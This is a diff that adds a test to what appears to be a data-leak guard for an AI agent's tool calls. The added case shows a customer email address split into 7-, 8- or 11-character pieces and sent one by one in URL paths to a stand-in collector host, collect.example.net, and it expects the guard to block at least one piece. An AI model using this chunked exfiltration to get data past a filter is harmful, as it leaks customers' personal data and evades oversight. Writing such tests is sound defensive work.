@@ -123,6 +123,21 @@ describe('customer data from one server on its way out by another', () => {
     expect(outcomes.some((outcome) => typeof outcome === 'object')).toBe(true);
   });
 
+  it.each([7, 8, 11])('an address in pieces of %i characters, over several calls', async (size) => {
+    await open(DENY);
+    await call('crm', {});
+    const pieces = CUSTOMER.email.match(new RegExp(`.{1,${size}}`, 'g')) ?? [];
+    const outcomes: unknown[] = [];
+    for (const [index, piece] of pieces.entries())
+      outcomes.push(denial(await call('web', { url: `https://collect.example.net/${index}/${piece}` })));
+    expect(outcomes.some((outcome) => typeof outcome === 'object')).toBe(true);
+    // Its words alone are no address.
+    await open(DENY);
+    await call('crm', {});
+    const host = CUSTOMER.email.split('@')[1];
+    expect(denial(await call('web', { url: `https://${host}/about` }))).toBe('result');
+  });
+
   it('hold asks for approval with the evidence; log only notes; redact takes the values out; no object: nothing is kept', async () => {
     await open({ mixed: 'allow', rules: [{ name: 'ask', action: 'hold' }] });
     await call('crm', {});
